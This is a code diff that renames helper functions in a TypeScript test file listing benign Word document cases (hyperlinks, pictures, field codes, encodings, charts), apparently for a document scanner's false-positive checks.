@@ -483,11 +590,11 @@ export const ordinaryWord: Case[] = [
     'www.example.com',
     '../../Documents and Settings/a.docx',
     'webcal://example.ca/a.ics',
-  ].map((target): Case => [`link to ${target}`, pointing('hyperlink', target)]),
+  ].map((target): WordCase => [`link to ${target}`, createRelationship('hyperlink', target)]),
   ...['wmz', 'emz'].map(
-    (kind): Case => [
+    (kind): WordCase => [
       `picture .${kind}`,
-      packageWith(`<Default Extension="${kind}" ContentType="image/x-${kind}"/>`, [
+      createPackage(`<Default Extension="${kind}" ContentType="image/x-${kind}"/>`, [
         { name: `word/media/image1.${kind}`, content: gzipSync('a picture') },
         relationships(
           documentRelationships,
@@ -498,14 +605,14 @@ export const ordinaryWord: Case[] = [
   ),
   [
     'icon as Word writes it',
-    drawing(
+    createDrawing(
       '<defs><clipPath id="clip0"><rect width="96" height="96"/></clipPath></defs><style>.a{fill:url("#b")}</style><g clip-path="url(#clip0)" id="Icons_User"><use xlink:href="#b"/><image href="data:image/png;base64,iVBORw0KGgo="/><path d="M1 2" class="MsftOfcThm_Accent1_Fill" fill="#4472C4"/></g>',
     ),
   ],
-  ['linked picture of a mail', pointing('image', 'cid:image001.png@01D9')],
+  ['linked picture of a mail', createRelationship('image', 'cid:image001.png@01D9')],
   [
     'fields',
-    documentOf(
+    createDocument(
       [
         'PAGE \\* MERGEFORMAT',
         'TOC \\o "1-3" \\h \\z \\u',
@@ -517,22 +624,22 @@ export const ordinaryWord: Case[] = [
         'DATE \\@ "d MMMM yyyy"',
         'FORMTEXT',
       ]
-        .map((text) => field(instruction(text.replaceAll('"', '&quot;'))))
+        .map((text) => createField(createInstruction(text.replaceAll('"', '&quot;'))))
         .join(''),
     ),
   ],
   [
     'fields in text boxes, changes that are kept, and two ways to show them',
-    documentOf(
-      `<w:p ${foreign} ${compatibility} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:xlink="http://www.w3.org/1999/xlink">${field(
-        instruction('HYPERLINK "https://example.ca"'),
-        `<w:del w:id="1">${run('<w:delInstrText> \\o "old"</w:delInstrText>')}</w:del>`,
-        character('separate'),
+    createDocument(
+      `<w:p ${foreignNamespace} ${compatibilityNamespace} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:xlink="http://www.w3.org/1999/xlink">${createField(
+        createInstruction('HYPERLINK "https://example.ca"'),
+        `<w:del w:id="1">${createRun('<w:delInstrText> \\o "old"</w:delInstrText>')}</w:del>`,
+        createFieldCharacter('separate'),
         ...['Choice Requires="x"', 'Fallback'].map((way, index) =>
           [
             index === 0 ? '<mc:AlternateContent>' : '',
             `<mc:${way}><v:shape href="#a" xlink:href="https://example.ca" x:id="1" w:id="2">`,
-            `<w:txbxContent>${field(instruction('PAGE'))}</w:txbxContent>`,
+            `<w:txbxContent>${createField(createInstruction('PAGE'))}</w:txbxContent>`,
             `</v:shape></mc:${way.split(' ')[0]}>`,
             index === 1 ? '</mc:AlternateContent>' : '',
           ].join(''),
@@ -540,9 +647,15 @@ export const ordinaryWord: Case[] = [
       )}</w:p>`,
     ),
   ],
-  ['words about DDE', documentOf('<w:p><w:r><w:t>DDEAUTO is added &amp; hidden</w:t></w:r></w:p>')],
-  ['UTF-16', rewritten('word/document.xml', (text) => utf16(text.replace('UTF-8', 'UTF-16')))],
-  ['a mark before UTF-8', rewritten('word/document.xml', (text) => `\ufeff${text}`)],
+  [
+    'words about DDE',
+    createDocument('<w:p><w:r><w:t>DDEAUTO is added &amp; hidden</w:t></w:r></w:p>'),
+  ],
+  [
+    'UTF-16',
+    rewritePart('word/document.xml', (text) => encodeUtf16(text.replace('UTF-8', 'UTF-16'))),
+  ],
+  ['a mark before UTF-8', rewritePart('word/document.xml', (text) => `\ufeff${text}`)],
   [
     'strict',
     zip([
@@ -559,12 +672,12 @@ export const ordinaryWord: Case[] = [
   ],
   [
     'chart with its figures',
-    packageWith(
-      override(
+    createPackage(
+      createOverride(
         '/word/charts/chart1.xml',
         'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
       ) +
-        override(
+        createOverride(
           '/word/embeddings/a.xlsx',
           'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
         ),
